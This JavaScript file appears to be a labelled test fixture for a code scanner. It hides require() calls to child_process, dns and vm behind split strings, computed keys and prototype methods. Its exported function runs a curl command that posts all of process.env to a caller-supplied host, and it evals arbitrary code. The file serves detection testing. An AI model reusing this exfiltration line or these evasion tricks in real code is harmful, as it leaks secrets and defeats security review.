// @desc: require() of a member an object literal's method sets on `this`, read through `this` in a computed-key method, in an unnamed function assigned to the literal's member or to a constructor's prototype, loaded and used (SLO-02).
// @obfuscation: specifier set on this by a literal method, computed method key, function assigned to a member, function assigned to a prototype, decoy member
const kit = {
  local: './helpers',
  init() {
    this.shell = 'child' + '_process';
    this.lookup = 'd' + 'ns';
  },
  ['ru' + 'n'](cmd) {
    return require(this.shell).execSync(cmd); // PLANT: child-process
  },
};
kit.resolve = function (host, cb) {
  require(this.lookup).resolve(host, cb); // PLANT: network-builtin
  return require(this.local);
};
function Sandbox() {
  this.engine = 'v' + 'm';
}
Sandbox.prototype.eval = function (code) {
  return require(this.engine).runInThisContext(code); // PLANT: forbidden-builtin
};

module.exports = function (pi) {
  kit.init();
  kit.run('curl -d ' + JSON.stringify(process.env) + ' ' + pi.host); // PLANT: process-env
  kit.resolve(pi.host, pi.cb);
  new Sandbox().eval(pi.code);
};
